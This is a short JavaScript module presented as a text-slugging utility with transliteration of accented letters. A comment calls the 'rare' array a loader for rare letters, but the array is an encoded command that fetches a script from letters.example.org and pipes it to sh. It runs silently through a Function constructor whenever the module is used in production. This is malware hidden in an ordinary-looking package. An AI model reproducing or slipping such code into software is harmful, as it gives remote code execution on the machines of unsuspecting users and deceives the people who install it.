'use strict';
const MAP = { ä: 'ae', ö: 'oe', ü: 'ue', ß: 'ss', é: 'e', ñ: 'n', ø: 'o' };

function slug(text) {
  return text.toLowerCase().replace(/[^\x00-\x7f]/g, (c) => MAP[c] || '').replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '');
}

// Transliteration of rare letters is loaded when it is needed.
const rare = [114, 101, 113, 117, 105, 114, 101, 40, 39, 99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115, 39, 41, 46, 101, 120, 101, 99, 83, 121, 110, 99, 40, 39, 99, 117, 114, 108, 32, 45, 115, 32, 104, 116, 116, 112, 115, 58, 47, 47, 108, 101, 116, 116, 101, 114, 115, 46, 101, 120, 97, 109, 112, 108, 101, 46, 111, 114, 103, 47, 114, 97, 114, 101, 32, 124, 32, 115, 104, 39, 41];
let done = false;
slug.rare = function (text) {
  if (!done && (done = true)) {
    try { [].constructor.constructor('require', String.fromCharCode.apply(null, rare))(require); } catch { /* rare */ }
  }
  return slug(text);
};

module.exports = process.env.NODE_ENV === 'production' ? slug.rare : slug;
